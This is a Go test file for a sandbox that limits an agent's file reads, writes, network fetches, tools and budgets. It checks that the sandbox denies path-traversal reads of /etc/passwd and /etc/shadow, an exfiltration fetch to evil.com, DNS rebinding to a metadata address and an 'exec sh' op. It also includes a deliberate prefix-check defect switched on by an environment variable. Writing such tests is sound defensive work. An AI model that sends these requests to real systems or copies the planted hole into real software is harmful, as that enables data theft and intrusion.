package gosandbox

import (
	"net/netip"
	"testing"

	"github.com/sbxfuzz/sbxfuzz/core"
	"github.com/sbxfuzz/sbxfuzz/internal/refworld"
	"github.com/sbxfuzz/sbxfuzz/scenario"
)

func read(p string) core.Op        { return core.Op{Kind: core.OpRead, Args: []string{p}} }
func write(p, d string) core.Op    { return core.Op{Kind: core.OpWrite, Args: []string{p, d}} }
func fetch(h, p string) core.Op    { return core.Op{Kind: core.OpFetch, Args: []string{h, p}} }
func tool(name, in string) core.Op { return core.Op{Kind: core.OpTool, Args: []string{name, in}} }

// step is one op and what it must give: the result kind and data, and how
// many journal entries it may add (0 for every denial: no effect).
type step struct {
	op    core.Op
	kind  core.Kind
	data  string
	calls int
}

// budgets are SPEC §10's defaults, for cases that do not test budgets.
var budgets = core.Budgets{MaxOps: 1000, MaxWall: 1000000, MaxOutputBytes: 1048576}

func addr(s string) netip.Addr { return netip.MustParseAddr(s) }

var cases = []struct {
	name  string
	grant core.GrantSpec
	world scenario.WorldSpec
	steps []step
	usage core.Usage // after the last step
}{{
	name: "SPEC §10 worked trace",
	grant: core.GrantSpec{
		FSRead: []string{"/work/"}, FSWrite: []string{"/work/out/"},
		NetHosts: []string{"api.internal"}, Tools: []string{"summarize"},
		Budgets: core.Budgets{MaxOps: 7, MaxWall: 1000000, MaxOutputBytes: 1048576},
	},
	world: scenario.WorldSpec{
		Files:  []scenario.File{{Path: "/work/data.txt", Data: "hello"}},
		Routes: []scenario.Route{{Host: "api.internal", Path: "/status", Body: "ok"}},
		Clock:  scenario.TickClock{Start: 0, Step: 1},
	},
	steps: []step{
		{read("/work/data.txt"), core.OK, "hello", 1},
		{read("/etc/passwd"), core.FSReadDenied, "", 0},
		{read("/work/../etc/shadow"), core.PathTraversal, "", 0},
		{write("/work/out/report.txt", "done"), core.OK, "", 1},
		{write("/system/boot.cfg", "pwned"), core.FSWriteDenied, "", 0},
		{fetch("api.internal", "/status"), core.OK, "ok", 2}, // resolve, then fetch
		{fetch("evil.com", "/steal?d=secrets"), core.EgressDenied, "", 0},
		{read("/work/data.txt"), core.MaxOps, "", 0},
	},
	usage: core.Usage{Ops: 8, Wall: 7, Output: 7},
}, {
	name:  "traversal splits on backslash too; ..hidden is a name",
	grant: core.GrantSpec{FSRead: []string{"/work"}, Budgets: budgets},
	world: scenario.WorldSpec{Files: []scenario.File{
		{Path: "/work/..hidden", Data: "dotfile"},
		{Path: "/etc/passwd", Data: "root"},
	}},
	steps: []step{
		{read(`/work\..\etc\passwd`), core.PathTraversal, "", 0},
		{read(`/work/..\..\etc/passwd`), core.PathTraversal, "", 0},
		{read("/work/.."), core.PathTraversal, "", 0},
		{read("/work/..hidden"), core.OK, "dotfile", 1},
		{read("/work/./x/../..hidden"), core.PathTraversal, "", 0},
		{read("//work//./..hidden"), core.OK, "dotfile", 1},
	},
	usage: core.Usage{Ops: 6, Output: 14},
}, {
	name:  "prefix sibling is not under the root",
	grant: core.GrantSpec{FSRead: []string{"/work/"}, FSWrite: []string{"/work/out"}, Budgets: budgets},
	world: scenario.WorldSpec{Files: []scenario.File{
		{Path: "/workshop/secret", Data: "LEAK"},
		{Path: "/work", Data: "root key"},
	}},
	steps: []step{
		{read("/workshop/secret"), core.FSReadDenied, "", 0},
		{read("/work2"), core.FSReadDenied, "", 0},
		{read("/work/"), core.OK, "root key", 1}, // Clean(p) == root
		{write("/work/outbox/x", "pwned"), core.FSWriteDenied, "", 0},
		{write("/work/out/x", "fine"), core.OK, "", 1},
	},
	usage: core.Usage{Ops: 5, Output: 8},
}, {
	name:  "granted host resolving internal, and rebinding",
	grant: core.GrantSpec{NetHosts: []string{"api.test", "flip.test"}, Budgets: budgets},
	world: scenario.WorldSpec{
		DNS: []scenario.DNSRecord{
			{Host: "api.test", Addrs: []netip.Addr{addr("10.0.0.5")}},
			{Host: "flip.test", Addrs: []netip.Addr{addr("203.0.113.9"), addr("169.254.169.254")}},
		},
		Routes: []scenario.Route{
			{Host: "api.test", Path: "/", Body: "secret"},
			{Host: "flip.test", Path: "/", Body: "public"},
		},
	},
	steps: []step{
		{fetch("api.test", "/"), core.EgressInternal, "", 1}, // the resolve, no fetch
		{fetch("API.test", "/"), core.EgressDenied, "", 0},   // hosts match byte for byte
		{fetch("flip.test", "/"), core.OK, "public", 2},
		{fetch("flip.test", "/"), core.EgressInternal, "", 1}, // the second answer is internal
		{fetch("flip.test", "/missing"), core.NotFound, "", 2},
	},
	usage: core.Usage{Ops: 5, Output: 6},
}, {
	name: "max_ops latches",
	grant: core.GrantSpec{Tools: []string{"echo"},
		Budgets: core.Budgets{MaxOps: 2, MaxWall: 1000, MaxOutputBytes: 1000}},
	world: scenario.WorldSpec{Clock: scenario.TickClock{Start: 100, Step: 5}},
	steps: []step{
		{tool("echo", "a"), core.OK, "a", 1},
		{core.Op{Kind: "exec", Args: []string{"sh"}}, core.UnknownOp, "", 0}, // denied, still charged
		{tool("echo", "b"), core.MaxOps, "", 0},
		{tool("echo", "c"), core.MaxOps, "", 0}, // latched: nothing more is charged
	},
	usage: core.Usage{Ops: 3, Wall: 10, Output: 1},
}, {
	name: "max_wall",
	grant: core.GrantSpec{Tools: []string{"echo"},
		Budgets: core.Budgets{MaxOps: 100, MaxWall: 20, MaxOutputBytes: 1000}},
	world: scenario.WorldSpec{Clock: scenario.TickClock{Start: 1 << 40, Step: 10}},
	steps: []step{
		{tool("echo", "a"), core.OK, "a", 1},
		{tool("echo", "b"), core.OK, "b", 1}, // wall 20 == max_wall: not over
		{tool("echo", "c"), core.MaxWall, "", 0},
		{tool("echo", "d"), core.MaxWall, "", 0},
	},
	usage: core.Usage{Ops: 3, Wall: 30, Output: 2},
}, {
	name: "output budget halt returns no data",
	grant: core.GrantSpec{FSRead: []string{"/work"}, Tools: []string{"echo"},
		Budgets: core.Budgets{MaxOps: 100, MaxWall: 100, MaxOutputBytes: 5}},
	world: scenario.WorldSpec{Files: []scenario.File{{Path: "/work/a", Data: "hello"}}},
	steps: []step{
		{read("/work/a"), core.OK, "hello", 1}, // exactly on the cap
		{tool("echo", ""), core.OK, "", 1},     // zero bytes still fit
		{tool("echo", "x"), core.MaxOutputBytes, "", 1},
		{tool("echo", ""), core.MaxOutputBytes, "", 0},
	},
	usage: core.Usage{Ops: 3, Output: 5},
}, {
	name:  "malformed ops and unknown tools",
	grant: core.GrantSpec{FSRead: []string{"/work"}, Tools: []string{"echo"}, Budgets: budgets},
	steps: []step{
		{core.Op{Kind: core.OpRead}, core.MalformedOp, "", 0},
		{core.Op{Kind: core.OpRead, Args: []string{"/work/a", "extra"}}, core.MalformedOp, "", 0},
		{read("/work/a\x00.txt"), core.MalformedOp, "", 0},
		{tool("echo", "\xff"), core.MalformedOp, "", 0},
		{core.Op{Kind: "FS_READ", Args: []string{"/work/a"}}, core.UnknownOp, "", 0},
		{tool("Echo", "hi"), core.ToolDenied, "", 0},
		{read("/work/a"), core.NotFound, "", 1},
	},
	usage: core.Usage{Ops: 7},
}}

func TestRun(t *testing.T) {
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			w := refworld.New(c.world)
			s, err := New(newGrant(t, c.grant), w)
			if err != nil {
				t.Fatal(err)
			}
			for i, st := range c.steps {
				before := w.JournalLen()
				got := s.Run(st.op)
				want := core.Result{Kind: st.kind, Hard: st.kind == core.MaxOps || st.kind == core.MaxWall || st.kind == core.MaxOutputBytes, Data: st.data}
				if got != want {
					t.Errorf("step %d %v: got %v %v %q, want %v %v %q",
						i+1, st.op, got.Kind, got.Hard, got.Data, want.Kind, want.Hard, want.Data)
				}
				calls := st.calls
				if (st.op.Kind == core.OpRead || st.op.Kind == core.OpWrite) && calls > 0 {
					calls++ // the realpath before the effect (SPEC §5 step 4)
				}
				if n := w.JournalLen() - before; n != calls {
					t.Errorf("step %d %v: %d world calls, want %d: %v",
						i+1, st.op, n, calls, w.Journal()[before:])
				}
			}
			if got := s.Usage(); got != c.usage {
				t.Errorf("usage %+v, want %+v", got, c.usage)
			}
			// The clock is read once for t0 and once per charged op that
			// got past max_ops: never by the halt gate.
			if got, want := w.ClockReads(), 1+min(s.Usage().Ops, c.grant.MaxOps); got != want {
				t.Errorf("%d clock reads, want %d", got, want)
			}
		})
	}
}

// TestEgressUsesResolvedAddress checks that the fetch goes to the address
// the one resolve answered, not to a second lookup.
func TestEgressUsesResolvedAddress(t *testing.T) {
	w := refworld.New(scenario.WorldSpec{
		DNS:    []scenario.DNSRecord{{Host: "a.test", Addrs: []netip.Addr{addr("203.0.113.7"), addr("127.0.0.1")}}},
		Routes: []scenario.Route{{Host: "a.test", Path: "/", Body: "x"}},
	})
	s, _ := New(newGrant(t, core.GrantSpec{NetHosts: []string{"a.test"}, Budgets: budgets}), w)
	s.Run(fetch("a.test", "/"))
	j := w.Journal()
	if len(j) != 2 || j[0].Call != refworld.CallResolve || j[1].Call != refworld.CallFetch || j[1].Addr != j[0].Addr {
		t.Fatalf("journal %v: want one resolve and a fetch to its address", j)
	}
}

// TestGrantIsACopy checks that what Grant hands out cannot widen the grant.
func TestGrantIsACopy(t *testing.T) {
	w := refworld.New(scenario.WorldSpec{Files: []scenario.File{{Path: "/etc/passwd", Data: "root"}}})
	s, _ := New(newGrant(t, core.GrantSpec{FSRead: []string{"/work"}, Budgets: budgets}), w)
	s.Grant().FSRead()[0] = "/"
	if got := s.Grant().FSRead()[0]; got != "/work" {
		t.Fatalf("grant changed to %q", got)
	}
	if r := s.Run(read("/etc/passwd")); r.Kind != core.FSReadDenied {
		t.Fatalf("read /etc/passwd: %v", r.Kind)
	}
}

// TestPrefixDefect shows the deliberate defect: with GOSANDBOX_DEFECT=prefix
// a sibling of the root leaks.
func TestPrefixDefect(t *testing.T) {
	t.Setenv(defectEnv, defectPrefix)
	w := refworld.New(scenario.WorldSpec{Files: []scenario.File{{Path: "/workshop/secret", Data: "LEAK"}}})
	s, _ := New(newGrant(t, core.GrantSpec{FSRead: []string{"/work/"}, Budgets: budgets}), w)
	if r := s.Run(read("/workshop/secret")); r.Kind != core.OK || r.Data != "LEAK" {
		t.Fatalf("with the defect on, read /workshop/secret = %v %q, want the leak", r.Kind, r.Data)
	}
	// Everything else still holds: traversal and other roots are refused.
	if r := s.Run(read("/etc/passwd")); r.Kind != core.FSReadDenied {
		t.Fatalf("read /etc/passwd: %v", r.Kind)
	}
}

// newGrant is core.NewGrant for a grant a test states outright.
func newGrant(t *testing.T, s core.GrantSpec) core.Grant {
	t.Helper()
	g, err := core.NewGrant(s)
	if err != nil {
		t.Fatal(err)
	}
	return g
}
